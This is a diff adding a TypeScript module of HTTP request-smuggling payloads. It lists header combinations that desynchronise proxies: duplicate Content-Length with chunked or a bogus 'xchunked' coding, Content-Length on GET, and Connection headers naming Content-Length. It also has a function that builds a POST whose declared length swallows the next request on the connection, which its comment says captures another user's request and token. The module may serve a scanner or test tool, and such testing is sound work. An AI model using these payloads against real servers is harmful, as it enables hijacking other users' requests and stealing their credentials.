@@ -1,0 +1,33 @@
+import { headLines } from './write-request.ts'
+
+/** Headers of a request with a body of so many bytes. */
+export interface Smuggling {
+  readonly name: string
+  readonly lines: (length: number) => readonly string[]
+}
+
+/** Headers that may make a proxy send a body without saying how long it is. */
+export const smugglings: readonly Smuggling[] = [
+  {
+    name: 'Connection: content-length',
+    lines: (n) => ['Connection: content-length', `Content-Length: ${n}`],
+  },
+  {
+    name: 'Connection: keep-alive, Content-Length',
+    lines: (n) => ['Connection: keep-alive, Content-Length', `Content-Length: ${n}`],
+  },
+  { name: 'Content-Length on GET', lines: (n) => [`Content-Length: ${n}`] },
+  {
+    name: 'Content-Length beside chunked',
+    lines: (n) => [`Content-Length: ${n}`, 'Transfer-Encoding: chunked'],
+  },
+  {
+    name: 'Content-Length beside an unknown coding',
+    lines: (n) => [`Content-Length: ${n}`, 'Transfer-Encoding: xchunked'],
+  },
+]
+
+/** A request whose body is what comes next over the same connection: of somebody else, with a token. */
+export function smuggleOf(host: string, swallowed: number): string {
+  return headLines(['POST /SMUGGLED HTTP/1.1', `Host: ${host}`, `Content-Length: ${swallowed}`])
+}
